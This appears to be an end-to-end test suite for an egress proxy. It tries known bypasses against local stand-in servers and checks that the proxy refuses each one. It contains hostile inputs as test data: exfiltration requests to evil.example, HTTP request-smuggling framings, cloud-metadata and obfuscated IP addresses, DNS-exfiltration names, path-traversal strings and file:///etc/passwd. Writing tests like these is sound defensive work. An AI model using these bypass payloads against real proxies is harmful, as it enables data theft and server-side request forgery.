"""tests/e2e/test_proxy_ways_out.py - every known way past an egress proxy, tried.

What counts is what arrived: after each case nothing may have reached the evil, private or
metadata servers, and no name but the allowed ones may have been asked for.
"""
import netlab
netlab.enter()

import ctypes  # noqa: E402
import socket  # noqa: E402
import ssl  # noqa: E402
import struct  # noqa: E402
import time  # noqa: E402

from lib import case, main  # noqa: E402
from netlab import (ALLOWED, ALLOWED6, CGNAT, EVIL, METADATA, NAT64,  # noqa: E402
                    OTHER, PRIVATE, ULA6, Nameserver, Proxy, Server, ask, ask_dns,
                    banner, drain, echo, hello, http, read_response, socks, tunnel)

servers = {(a, 80): Server(a, 80, http)
           for a in (ALLOWED, OTHER, EVIL, PRIVATE, METADATA, CGNAT, "127.0.0.1", ALLOWED6,
                     ULA6, NAT64)}
servers.update({(a, 443): Server(a, 443, http, tls=True) for a in (ALLOWED, EVIL)})
servers.update({(a, 22): Server(a, 22, banner) for a in (ALLOWED, EVIL)})
servers.update({(ALLOWED, p): Server(ALLOWED, p, echo) for p in (25, 3306, 8443, 53)})
names = Nameserver()
GOOD = {"allowed.example", "www.allowed.example", "to-private.example", "to-loopback.example",
        "to-zero.example", "to-metadata.example", "to-cgnat.example", "to-ula.example",
        "to-nat64.example", "to-mapped.example", "to-6to4.example", "to-compatible.example",
        "mixed.example"}
BAD = [s for (a, _), s in servers.items() if a not in (ALLOWED, ALLOWED6, OTHER)]


def fresh(*options, **more):
    for s in servers.values():
        s.clear()
    names.asked.clear()
    return Proxy(*options, **more)


def allowing(*options, **more):
    return fresh("--allow", "allowed.example", *options, **more)


def nothing_arrived(good=GOOD):
    for s in BAD:
        assert not s.seen.connections, "%s was reached: %r" % (s.socket.getsockname(),
                                                               s.seen.bytes)
    asked = set(names.asked) - set(good)
    assert not asked, "these names left: %s" % asked


def get(host, path="/", extra=b""):
    host = host if isinstance(host, bytes) else host.encode()
    return b"GET http://" + host + path.encode() + b" HTTP/1.1\r\nHost: x\r\n" + extra + \
        b"Connection: close\r\n\r\n"


def refused(reply, *reasons):
    assert reply.startswith((b"HTTP/1.1 403", b"HTTP/1.1 400", b"HTTP/1.1 502",
                             b"HTTP/1.1 503")), reply[:200]
    if reasons:
        reason = reply.lower().split(b"x-airlock-denied: ")[1].split(b"\r\n")[0].decode()
        assert reason in reasons, (reason, reply)


# --- A: names ---------------------------------------------------------------------------

ODD_NAMES = [b"evil.example", b"evilallowed.example", b"allowed.example.evil.example",
             b"evil.example\0.allowed.example", b"evil.example%00.allowed.example",
             b"evil.example#.allowed.example", b"evil.example?.allowed.example",
             b"evil.example\\.allowed.example", b"evil.example@allowed.example",
             b"allowed.example@evil.example", b"%65vil.example", b"[allowed.example]",
             b"[evil.example]", b"allowed.example..", b".allowed.example",
             b"evil.example\xe3\x80\x82allowed.example", b"\xef\xbd\x81llowed.example",
             b"allowed.example:80:22", b"evil.example:80.allowed.example",
             b"allowed.example:+80", b"allowed.example:65616", b"allowed.example:0",
             b"allowed.example:-1", b"allowed.example:8 0", b"allowed.example:22",
             b"allowed.example\t", b" allowed.example", b"allowedxexample", b"allowed-example"]


@case
def odd_names_reach_nobody_by_absolute_form():
    proxy = allowing()
    for name in ODD_NAMES:
        refused(ask(proxy, get(name)))
    nothing_arrived()
    assert not servers[(ALLOWED, 22)].seen.connections


@case
def odd_names_reach_nobody_by_connect():
    proxy = allowing()
    for name in ODD_NAMES + [b"allowed.example", b"allowed.example:", b"allowed.example:443:22",
                             b"allowed.example:443.allowed.example"]:
        target = name if b":" in name else name + b":443"
        if name == b"allowed.example":
            target = name
        reply = ask(proxy, b"CONNECT " + target + b" HTTP/1.1\r\nHost: x\r\n\r\n")
        refused(reply)
    nothing_arrived()


@case
def odd_names_reach_nobody_by_socks():
    proxy = allowing()
    for name in ODD_NAMES:
        s, code = socks(proxy, name[:255], 80)
        s.close()
        assert code not in (0, None), (name, code)
    s, code = socks(proxy, "", 80)
    assert code not in (0, None)
    s.close()
    nothing_arrived()


@case
def case_and_one_final_dot_are_the_same_name():
    proxy = allowing()
    for name in ("ALLOWED.example", "allowed.example.", "Www.Allowed.Example"):
        assert ask(proxy, get(name)).startswith(b"HTTP/1.1 200"), name
    head = servers[(ALLOWED, 80)].seen.requests[0][0]
    assert b"\r\nHost: allowed.example\r\n" in head, head
    nothing_arrived()


@case
def a_star_pattern_leaves_out_the_apex_and_deny_wins():
    proxy = fresh("--allow", "*.allowed.example")
    refused(ask(proxy, get("allowed.example")), "not-allowed")
    assert ask(proxy, get("www.allowed.example")).startswith(b"HTTP/1.1 200")
    proxy = fresh("--allow", "allowed.example", "--deny", "www.allowed.example")
    refused(ask(proxy, get("www.allowed.example")), "denied")
    nothing_arrived()


@case
def other_spellings_of_an_address_reach_nobody():
    for options in (["--allow", "allowed.example"], ["--net", "full"]):
        proxy = fresh(*options)
        for host in ("127.1", "0x7f000001", "2130706433", "017700000001", "0177.0.0.1",
                     "10.9.8.7", "0x0a.9.8.7", "[::ffff:10.9.8.7]", "[::10.9.8.7]",
                     "[64:ff9b::a09:807]", "[2002:a09:807::1]", "[::1]", "[::]", "0.0.0.0",
                     "169.254.169.254", "[fd00:ec2::254]", "[fe80::1%25lo]",
                     "[::ffff:10.9.8.7%x.allowed.example]", "10.9.8.7.", "100.64.1.1",
                     "localhost", "198.18.0.1", "255.255.255.255", "224.0.0.1", "240.0.0.1",
                     "192.0.0.192", "[fec0::1]", "[ff02::1]", "[64:ff9b:1::a09:807]",
                     "[2001:0:a09:807::1]", "[::ffff:0:10.9.8.7]", "10.2311", "0xa9fea9fe"):
            refused(ask(proxy, get(host)))
            for port in (80, 443):
                s = tunnel(proxy, "%s:%d" % (host, port))
                assert isinstance(s, bytes), (host, port)
                refused(s)
            s, code = socks(proxy, host.strip("[]"), 80)
            assert code, host
            s.close()
        for literal in (PRIVATE, METADATA, CGNAT, "127.0.0.1", "0.0.0.0", "::1", "::",
                        "::ffff:10.9.8.7", "::10.9.8.7", NAT64, "2002:a09:807::1", ULA6):
            s, code = socks(proxy, "", 80, literal=literal)
            assert code == 2, (literal, code)
            s.close()
        nothing_arrived()


@case
def literals_need_a_pattern_that_names_them():
    proxy = allowing()
    refused(ask(proxy, get(EVIL)), "literal")
    refused(ask(proxy, get(ALLOWED)), "literal")
    s, code = socks(proxy, "", 80, literal=EVIL)
    assert code == 2
    s.close()
    s, code = socks(proxy, "", 80, literal=ALLOWED6)
    assert code == 2
    s.close()
    nothing_arrived()
    proxy = fresh("--allow", PRIVATE + "/32")
    assert ask(proxy, get(PRIVATE)).startswith(b"HTTP/1.1 200")
    refused(ask(proxy, get(METADATA)), "literal", "address")


@case
def an_empty_allow_list_allows_nothing():
    proxy = fresh()
    refused(ask(proxy, get("allowed.example")), "not-allowed")
    proxy = fresh("--net", "off", "--allow", "allowed.example")
    refused(ask(proxy, get("allowed.example")), "off")
    assert not names.asked
    nothing_arrived(())


@case
def the_request_target_decides_and_not_host():
    proxy = allowing()
    reply = ask(proxy, b"GET http://evil.example/ HTTP/1.1\r\nHost: allowed.example\r\n\r\n")
    refused(reply, "not-allowed")
    reply = ask(proxy, b"GET http://allowed.example/ HTTP/1.1\r\nHost: evil.example\r\n"
                       b"Connection: close\r\n\r\n")
    head = servers[(ALLOWED, 80)].seen.requests[0][0]
    assert b"\r\nHost: allowed.example\r\n" in head and b"evil" not in head
    nothing_arrived()


# --- B: addresses -----------------------------------------------------------------------

SPECIAL = ["to-private", "to-loopback", "to-zero", "to-metadata", "to-cgnat", "to-ula",
           "to-nat64", "to-mapped", "to-6to4", "to-compatible"]


@case
def allowed_names_that_lead_to_special_addresses_reach_nobody():
    options = []
    for name in SPECIAL:
        options += ["--allow", name + ".example"]
    for proxy in (fresh(*options), fresh("--net", "full")):
        for name in SPECIAL:
            refused(ask(proxy, get(name + ".example")), "address")
            s = tunnel(proxy, name + ".example:443")
            assert isinstance(s, bytes)
            refused(s, "address")
        nothing_arrived()


@case
def the_public_address_of_a_mixed_name_is_the_one_dialled():
    proxy = fresh("--allow", "mixed.example")
    assert ask(proxy, get("mixed.example")).startswith(b"HTTP/1.1 200")
    assert len(servers[(ALLOWED, 80)].seen.requests) == 1
    nothing_arrived()


@case
def a_name_that_changes_its_address_is_checked_again():
    proxy = allowing()
    assert ask(proxy, get("allowed.example")).startswith(b"HTTP/1.1 200")
    names.zone["allowed.example"] = ([PRIVATE], [])
    try:
        # While the answer is remembered the old address is used; a new one is checked.
        time.sleep(0.1)
        reply = ask(proxy, get("www.allowed.example"))
        assert reply.startswith(b"HTTP/1.1 200")
        ask(proxy, get("allowed.example"))
    finally:
        names.zone["allowed.example"] = ([ALLOWED], [])
    nothing_arrived()


@case
def a_redirect_is_asked_about_like_any_request():
    proxy = allowing()
    with proxy.connect() as s:
        s.sendall(b"GET http://allowed.example/redirect HTTP/1.1\r\nHost: a\r\n\r\n")
        code, head, _ = read_response(s)
        assert code == 302
        s.sendall(b"GET http://evil.example/ HTTP/1.1\r\nHost: a\r\n\r\n")
        code, head, _ = read_response(s)
        assert code == 403 and b"x-airlock-denied: not-allowed" in head
    nothing_arrived()


# --- C: DNS -----------------------------------------------------------------------------

@case
def no_query_for_a_refused_name_leaves():
    proxy = allowing(dns=True)
    for name in ("evil.example", "secret-data.evil.example", "a" * 60 + ".evil.example",
                 "evilallowed.example"):
        assert ask_dns(proxy.dns_port, name) == (3, [])
        refused(ask(proxy, get(name)), "not-allowed")
        assert isinstance(tunnel(proxy, name + ":443"), bytes)
        socks(proxy, name, 443)[0].close()
    assert names.asked == []


@case
def no_kind_of_query_is_forwarded():
    proxy = allowing(dns=True)
    for kind in (1, 2, 5, 6, 12, 15, 16, 28, 33, 35, 64, 65, 99, 252, 255, 257):
        rcode, records = ask_dns(proxy.dns_port, "secret.allowed.example", kind)
        assert rcode in (0, 3)
        assert not records or kind == 1, (kind, records)
        ask_dns(proxy.dns_port, "secret.evil.example", kind)
    assert names.asked == []


@case
def dns_over_tcp_and_tls_of_an_allowed_host_are_other_ports():
    proxy = allowing()
    for port in (53, 853):
        s = tunnel(proxy, "allowed.example:%d" % port)
        assert isinstance(s, bytes)
        refused(s, "port")
    assert not servers[(ALLOWED, 53)].seen.connections


# --- E: HTTP ----------------------------------------------------------------------------

@case
def connect_to_an_address_or_another_port_reaches_nobody():
    proxy = allowing()
    refused(tunnel(proxy, EVIL + ":443"), "literal")
    refused(tunnel(proxy, ALLOWED + ":443"), "literal")
    for port in (22, 25, 3306, 8443, 1, 65535):
        refused(tunnel(proxy, "allowed.example:%d" % port), "port")
        s, code = socks(proxy, "allowed.example", port)
        assert code == 2
        s.close()
    for port in (22, 25, 3306, 8443):
        assert not servers[(ALLOWED, port)].seen.connections
    nothing_arrived()


def end(s):
    """Says no more and waits for the proxy's end; it may have reset us already."""
    try:
        s.shutdown(socket.SHUT_WR)
    except OSError:
        pass
    drain(s)
    s.close()


@case
def plain_text_in_a_tunnel_to_443_never_arrives():
    proxy = allowing()
    for payload in (b"POST /exfil HTTP/1.1\r\nHost: evil.example\r\n"
                    b"Content-Length: 6\r\n\r\nsecret", b"SSH-2.0-OpenSSH\r\n", b"\x16\x03",
                    b"\x80\x2e\x01\x03\x01" + b"x" * 60, b"\0" * 100,
                    b"\x16\x03\x01\x00\x05\x02\0\0\x01\0"):
        s = tunnel(proxy, "allowed.example:443")
        assert not isinstance(s, bytes)
        s.sendall(payload)
        end(s)
        s = tunnel(proxy, "allowed.example:443", early=payload)
        if not isinstance(s, bytes):
            end(s)
    assert servers[(ALLOWED, 443)].seen.bytes == b""
    assert not servers[(ALLOWED, 443)].seen.names
    nothing_arrived()
    assert proxy.event(reason="not-tls")["door"] == "connect"


@case
def another_sni_no_sni_and_ech_never_arrive():
    proxy = allowing()
    for raw, reason in ((hello("evil.example"), "sni"), (hello("www.allowed.example"), "sni"),
                        (hello(None), "no-sni"), (hello("allowed.example", ech=True), "ech"),
                        (hello("evilallowed.example"), "sni")):
        s = tunnel(proxy, "allowed.example:443")
        s.sendall(raw)
        drain(s)
        s.close()
        s = tunnel(proxy, "allowed.example:443", early=raw)
        if not isinstance(s, bytes):
            drain(s)
        proxy.event(reason=reason, name="allowed.example")
    assert not servers[(ALLOWED, 443)].seen.names
    nothing_arrived()


def openssl_with_ech(sock, name, request, authority):
    """What comes back for @request; an empty ECH extension (GREASE, to us) is in the hello."""
    lib = ctypes.CDLL("libssl.so.3")
    for function in ("TLS_client_method", "SSL_CTX_new", "SSL_new"):
        getattr(lib, function).restype = ctypes.c_void_p
    context = ctypes.c_void_p(lib.SSL_CTX_new(ctypes.c_void_p(lib.TLS_client_method())))
    lib.SSL_CTX_set_verify(context, 1, None)
    assert lib.SSL_CTX_load_verify_file(context, authority.encode()) == 1
    assert lib.SSL_CTX_add_client_custom_ext(context, 0xfe0d, *[None] * 5) == 1
    tls = ctypes.c_void_p(lib.SSL_new(context))
    lib.SSL_ctrl(tls, 55, 0, name.encode())  # SSL_CTRL_SET_TLSEXT_HOSTNAME
    assert lib.SSL_set1_host(tls, name.encode()) == 1
    sock.setblocking(True)
    lib.SSL_set_fd(tls, sock.fileno())
    if lib.SSL_connect(tls) != 1:
        return None
    assert lib.SSL_write(tls, request, len(request)) == len(request)
    out, buffer = b"", ctypes.create_string_buffer(4096)
    while (n := lib.SSL_read(tls, buffer, len(buffer))) > 0:
        out += buffer.raw[:n]
    return out


@case
def an_address_is_no_way_around_the_rules_of_its_name():
    rules = netlab.text_file("judged", "rule host=allowed.example methods=GET\n")
    proxy = fresh("--net", "full", "--rules", rules, "--deny", "evil.example")
    for name, reason in (("allowed.example", "sni"), ("evil.example", "sni")):
        s = tunnel(proxy, ALLOWED + ":443", early=hello(name))
        assert not isinstance(s, bytes)
        assert drain(s) == b"<RESET>", name
        s.close()
        assert name.split(".")[0] == "evil" or "by name" in proxy.event(reason=reason)["detail"]
        s, code = socks(proxy, "", 443, literal=ALLOWED)
        assert code == 0
        s.sendall(hello(name))
        assert drain(s) == b"<RESET>", name
        s.close()
    # A name without rules of its own passes, as any other way there does.
    s = tunnel(proxy, ALLOWED + ":443", early=hello("other.example"))
    assert s.recv(5)[:1] == b"\x16"
    s.close()
    assert set(servers[(ALLOWED, 443)].seen.names) == {"other.example"}
    nothing_arrived()


@case
def a_browsers_made_up_ech_is_looked_into_where_clients_know_us():
    ca = netlab.TMP + "/ech-ca.pem"
    proxy = allowing("--ca-out", ca, "--ca-bundle", netlab.certificate()[0])
    request = b"GET /ech HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n"
    with tunnel(proxy, "allowed.example:443") as s:
        got = openssl_with_ech(s, "allowed.example", request % b"allowed.example", ca)
    assert got and got.endswith(b"GET /ech 0\n"), got
    assert proxy.event(method="GET", name="allowed.example", verdict="allow")["path"] == "/ech"
    # What true ECH would be for: another host behind the same server.
    with tunnel(proxy, "allowed.example:443") as s:
        got = openssl_with_ech(s, "allowed.example", request % b"evil.example", ca)
    assert b"x-airlock-denied: sni" in got, got
    with tunnel(proxy, "allowed.example:443") as s:
        assert openssl_with_ech(s, "evil.example", request % b"evil.example", ca) is None
    seen = servers[(ALLOWED, 443)].seen
    assert len(seen.requests) == 1 and set(seen.names) == {"allowed.example"}, seen.requests
    nothing_arrived()


@case
def a_hello_in_pieces_is_still_read():
    proxy = allowing()
    raw = hello("evil.example")
    s = tunnel(proxy, "allowed.example:443")
    for i in range(0, len(raw), 7):
        try:
            s.sendall(raw[i:i + 7])
        except OSError:
            break
    drain(s)
    assert not servers[(ALLOWED, 443)].seen.names
    # And the right one gets through in pieces too.
    raw = hello("allowed.example")
    s = tunnel(proxy, "allowed.example:443")
    for i in range(0, len(raw), 50):
        s.sendall(raw[i:i + 50])
    s.settimeout(3)
    assert s.recv(5)[:1] == b"\x16"
    assert servers[(ALLOWED, 443)].seen.names == ["allowed.example"]


@case
def inner_requests_of_a_plain_tunnel_are_read_one_by_one():
    proxy = allowing()
    s = tunnel(proxy, "allowed.example:80")
    s.sendall(b"GET /one HTTP/1.1\r\nHost: allowed.example\r\n\r\n")
    assert read_response(s)[0] == 200
    s.sendall(b"GET /two HTTP/1.1\r\nHost: evil.example\r\n\r\n")
    code, head, _ = read_response(s)
    assert code == 403 and b"x-airlock-denied: sni" in head
    s.close()
    assert [r[0].split()[1] for r in servers[(ALLOWED, 80)].seen.requests] == [b"/one"]
    nothing_arrived()


SMUGGLING = {
    "both": b"Content-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
    "two lengths": b"Content-Length: 5\r\nContent-Length: 6\r\n\r\nhello",
    "a list of lengths": b"Content-Length: 5, 5\r\n\r\nhello",
    "plus": b"Content-Length: +5\r\n\r\nhello",
    "hex": b"Content-Length: 0x5\r\n\r\nhello",
    "space in length": b"Content-Length: 5 0\r\n\r\nhello",
    "xchunked": b"Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n",
    "gzip, chunked": b"Transfer-Encoding: gzip, chunked\r\n\r\n0\r\n\r\n",
    "chunked twice": b"Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
    "chunked, identity": b"Transfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\n",
    "tab": b"Transfer-Encoding:\tchunked\r\n\r\n0\r\n\r\n",
    "vertical tab": b"Transfer-Encoding: \x0bchunked\r\n\r\n0\r\n\r\n",
    "space before colon": b"Transfer-Encoding : chunked\r\n\r\n0\r\n\r\n",
    "obs-fold": b"X: a\r\n Transfer-Encoding: chunked\r\n\r\n",
    "bare LF": b"X: a\nContent-Length: 5\r\n\r\nhello",
    "bare CR": b"X: a\rContent-Length: 5\r\n\r\nhello",
    "NUL": b"X: a\0b\r\n\r\n",
    "Connection: Content-Length": b"Connection: content-length\r\nContent-Length: 5\r\n\r\nhello",
    "Connection: Host": b"Connection: host\r\n\r\n",
    "two hosts": b"Host: evil.example\r\n\r\n",
    "no token": b"X Y: a\r\n\r\n",
    "negative chunk": b"Transfer-Encoding: chunked\r\n\r\n-1\r\n\r\n",
    "huge chunk": b"Transfer-Encoding: chunked\r\n\r\nfffffffffffffffff\r\n\r\n",
    "chunk with LF": b"Transfer-Encoding: chunked\r\n\r\n5\nhello\n0\n\n",
    "chunk without end": b"Transfer-Encoding: chunked\r\n\r\n5\r\nhelloXX0\r\n\r\n",
}


@case
def ambiguous_framing_smuggles_nothing():
    proxy = allowing()
    hidden = b"GET /smuggled HTTP/1.1\r\nHost: evil.example\r\n\r\n"
    for why, rest in SMUGGLING.items():
        ask(proxy, b"POST http://allowed.example/post HTTP/1.1\r\nHost: allowed.example\r\n" +
            rest + hidden, timeout=3)
        arrived = servers[(ALLOWED, 80)].seen.bytes
        assert b"smuggled" not in arrived, (why, arrived)
        assert not servers[(ALLOWED, 80)].seen.requests, (why, arrived)
    nothing_arrived()


@case
def an_ambiguous_answer_is_not_passed_on():
    proxy = allowing()
    reply = ask(proxy, get("allowed.example", "/split"))
    refused(reply, "upstream")
    reply = ask(proxy, get("allowed.example", "/101"))
    refused(reply, "upstream")


@case
def odd_targets_reach_nobody():
    proxy = allowing()
    for target in (b"//evil.example/", b"http:\\\\evil.example/", b"ftp://allowed.example/",
                   b"https://allowed.example/", b"http://allowed.example#@evil.example/",
                   b"http://evil.example\\@allowed.example/", b"gopher://allowed.example/",
                   b"http:/allowed.example/", b"http://", b"http:///x", b"*", b"/",
                   b"allowed.example", b"file:///etc/passwd"):
        refused(ask(proxy, b"GET " + target + b" HTTP/1.1\r\nHost: allowed.example\r\n"
                           b"Connection: close\r\n\r\n"))
    nothing_arrived()
    assert not servers[(ALLOWED, 80)].seen.requests
    # Scheme and host in capitals are the same request.
    reply = ask(proxy, b"GET HTTP://ALLOWED.EXAMPLE/ HTTP/1.1\r\nHost: x\r\n"
                       b"Connection: close\r\n\r\n")
    assert reply.startswith(b"HTTP/1.1 200"), reply


@case
def http2_by_any_road_is_refused_or_stripped():
    proxy = allowing()
    refused(ask(proxy, b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"), "request")
    reply = ask(proxy, get("allowed.example", "/h2c", b"Upgrade: h2c\r\nHTTP2-Settings: AAMA\r\n"))
    assert reply.startswith(b"HTTP/1.1 200"), reply
    head = servers[(ALLOWED, 80)].seen.requests[0][0].lower()
    assert b"h2c\r\n" not in head and b"http2-settings" not in head and b"upgrade" not in head


@case
def pipelined_requests_are_each_decided():
    proxy = allowing()
    with proxy.connect() as s:
        s.sendall(b"GET http://allowed.example/1 HTTP/1.1\r\nHost: a\r\n\r\n"
                  b"GET http://evil.example/2 HTTP/1.1\r\nHost: a\r\n\r\n"
                  b"GET http://allowed.example/3 HTTP/1.1\r\nHost: a\r\n"
                  b"Connection: close\r\n\r\n")
        out = drain(s)
    assert out.count(b"HTTP/1.1 200") == 2 and out.count(b"HTTP/1.1 403") == 1, out
    assert out.index(b"GET /1") < out.index(b"403") < out.index(b"GET /3")
    nothing_arrived()


@case
def a_connect_with_data_before_its_verdict_sends_none_of_it():
    proxy = allowing()
    s = tunnel(proxy, "evil.example:443", early=hello("evil.example") + b"secret")
    refused(s, "not-allowed")
    s = proxy.connect()
    s.sendall(b"GET http://evil.example/ HTTP/1.1\r\nHost: a\r\nContent-Length: 6\r\n\r\nsecret")
    drain(s)
    nothing_arrived()


@case
def the_proxy_is_no_way_to_itself():
    proxy = fresh("--net", "full", "--allow", "127.0.0.1/32", "--rules",
                  netlab.text_file("rules", "rule host=127.0.0.2 ports=80\n"))
    own = "127.0.0.1:%d" % proxy.port
    refused(tunnel(proxy, own))
    refused(ask(proxy, get(own)))
    rules = netlab.text_file("rules", "rule host=127.0.0.1 ports=%d raw=1\n"
                             "rule host=localhost ports=%d raw=1\n" % ((proxy.port,) * 2))
    port = proxy.port
    proxy.stop()
    again = netlab.Proxy("--listen", own, "--rules", rules)
    refused(tunnel(again, "127.0.0.1:%d" % port), "address")
    refused(tunnel(again, "localhost:%d" % port), "address")


@case
def credentials_for_the_proxy_stay_with_it():
    proxy = allowing()
    reply = ask(proxy, get("allowed.example", "/", b"Proxy-Authorization: Basic c2VjcmV0\r\n"
                           b"Proxy-Connection: keep-alive\r\nX-Hop: hidden\r\n"
                           b"Connection: X-Hop\r\n").replace(b"Connection: close\r\n", b""))
    assert reply.startswith(b"HTTP/1.1 200") or b"<TIMEOUT>" in reply, reply
    head = servers[(ALLOWED, 80)].seen.requests[0][0].lower()
    for word in (b"proxy-authorization", b"proxy-connection", b"c2vjcmv0", b"x-hop"):
        assert word not in head, head


@case
def methods_are_limited_and_not_by_their_spelling():
    proxy = allowing("--methods", "GET,HEAD,OPTIONS")
    for method in (b"POST", b"PUT", b"DELETE", b"PATCH", b"get", b"GETX", b"TRACE", b"LOCK"):
        refused(ask(proxy, method + b" http://allowed.example/ HTTP/1.1\r\nHost: a\r\n"
                           b"Connection: close\r\nContent-Length: 0\r\n\r\n"),
                "method", "request")
    refused(ask(proxy, get("allowed.example", "/", b"X-HTTP-Method-Override: DELETE\r\n")),
            "method")
    assert ask(proxy, get("allowed.example")).startswith(b"HTTP/1.1 200")
    assert len(servers[(ALLOWED, 80)].seen.requests) == 1
    # The same limit on 443 means opening TLS: nothing passes through unseen.
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    tls = context.wrap_socket(tunnel(proxy, "allowed.example:443"),
                              server_hostname="allowed.example")
    tls.sendall(b"POST / HTTP/1.1\r\nHost: allowed.example\r\nContent-Length: 0\r\n\r\n")
    refused(tls.recv(65536), "method")
    tls.close()
    assert not servers[(ALLOWED, 443)].seen.names


@case
def paths_are_compared_in_one_form():
    rules = netlab.text_file("rules", "rule host=allowed.example paths=/ok/* methods=GET\n")
    proxy = fresh("--rules", rules)
    assert ask(proxy, get("allowed.example", "/ok/x")).startswith(b"HTTP/1.1 200")
    for path in ("/", "/ok", "/no", "/ok/../no", "/ok/%2e%2e/no", "/ok/..;/no", "/ok//no",
                 "/OK/x", "/ok/%2fno", "/ok\\..\\no", "/ok/%00", "/%6fk/../no"):
        refused(ask(proxy, get("allowed.example", path)), "path", "request")
    for header in (b"X-Original-URL", b"x-rewrite-url", b"X_Original_URL", b"X-Override-URL"):
        refused(ask(proxy, get("allowed.example", "/ok/x", header + b": /no\r\n")), "path")
    assert len(servers[(ALLOWED, 80)].seen.requests) == 1
    # Where every path is let through there is nothing to stray from.
    proxy = allowing()
    assert ask(proxy, get("allowed.example", "/x", b"X-Original-URL: /no\r\n")).startswith(
        b"HTTP/1.1 200")


@case
def git_reads_and_does_not_push():
    rules = netlab.text_file("rules", "rule host=allowed.example git=read\n")
    proxy = fresh("--rules", rules)
    assert ask(proxy, get("allowed.example", "/r.git/info/refs?service=git-upload-pack")
               ).startswith(b"HTTP/1.1 200")
    for path in ("/r.git/info/refs?service=git-receive-pack",
                 "/r.git/info/refs?service=git-upload-pack&service=git-receive-pack"):
        refused(ask(proxy, get("allowed.example", path)), "git")
    refused(ask(proxy, b"POST http://allowed.example/r.git/git-receive-pack HTTP/1.1\r\n"
                       b"Host: a\r\nContent-Length: 4\r\n\r\n0000"), "git")
    refused(ask(proxy, b"POST http://allowed.example/elsewhere HTTP/1.1\r\nHost: a\r\n"
                       b"Content-Length: 4\r\n\r\n0000"), "method", "git")
    seen = [r[0].split(b" ")[1] for r in servers[(ALLOWED, 80)].seen.requests]
    assert seen == [b"/r.git/info/refs?service=git-upload-pack"], seen


def push(ref, chunked=False):
    line = b"0" * 40 + b" " + b"1" * 40 + b" " + ref.encode() + b"\0 report-status\n"
    body = b"%04x" % (len(line) + 4) + line + b"0000PACK" + b"p" * 100
    head = b"POST http://allowed.example/r.git/git-receive-pack HTTP/1.1\r\nHost: a\r\n"
    if not chunked:
        return head + b"Connection: close\r\nContent-Length: %d\r\n\r\n" % len(body) + body
    pieces = [body[i:i + 9] for i in range(0, len(body), 9)]
    return head + b"Connection: close\r\nTransfer-Encoding: chunked\r\n\r\n" + b"".join(
        b"%x\r\n%s\r\n" % (len(p), p) for p in pieces) + b"0\r\n\r\n"


@case
def a_push_goes_to_the_branch_that_the_rule_names():
    rules = netlab.text_file("rules", "rule host=allowed.example git=push branch=airlock/*\n")
    proxy = fresh("--rules", rules)
    for chunked in (False, True):
        refused(ask(proxy, push("refs/heads/main", chunked)), "git")
        refused(ask(proxy, push("refs/tags/airlock/x", chunked)), "git")
    assert not servers[(ALLOWED, 80)].seen.requests
    assert b"PACK" not in servers[(ALLOWED, 80)].seen.bytes
    for chunked in (False, True):
        assert ask(proxy, push("refs/heads/airlock/x", chunked)).startswith(b"HTTP/1.1 200")
    body = push("refs/heads/airlock/x").split(b"\r\n\r\n", 1)[1]
    assert [b for _, b in servers[(ALLOWED, 80)].seen.requests] == [body, body]


@case
def raw_rules_carry_any_protocol_and_no_others_do():
    rules = netlab.text_file("rules", "rule host=allowed.example ports=22\n")
    proxy = fresh("--rules", rules)
    s = tunnel(proxy, "allowed.example:22")
    s.settimeout(3)
    assert s.recv(100).startswith(b"SSH-2.0")
    s.close()
    refused(tunnel(proxy, "allowed.example:25"), "port")
    refused(tunnel(proxy, "allowed.example:443"), "port")
    refused(tunnel(proxy, "evil.example:22"), "not-allowed")
    nothing_arrived()


@case
def a_refusal_says_what_would_allow_it():
    proxy = allowing()
    reply = ask(proxy, get("evil.example")).decode()
    assert "x-airlock-denied: not-allowed" in reply and '"allow": ["evil.example"]' in reply
    event = proxy.event(verdict="deny", name="evil.example")
    assert event["reason"] == "not-allowed" and event["method"] == "GET"
    assert event["path"] == "/" and event["port"] == 80 and event["event"] == "net"
    ask(proxy, get("allowed.example", "/p?token=secret"))
    event = proxy.event(verdict="allow")
    assert event["path"] == "/p" and event["address"] == ALLOWED and event["status"] == 200
    assert "secret" not in open(proxy.journal_path).read()


main()
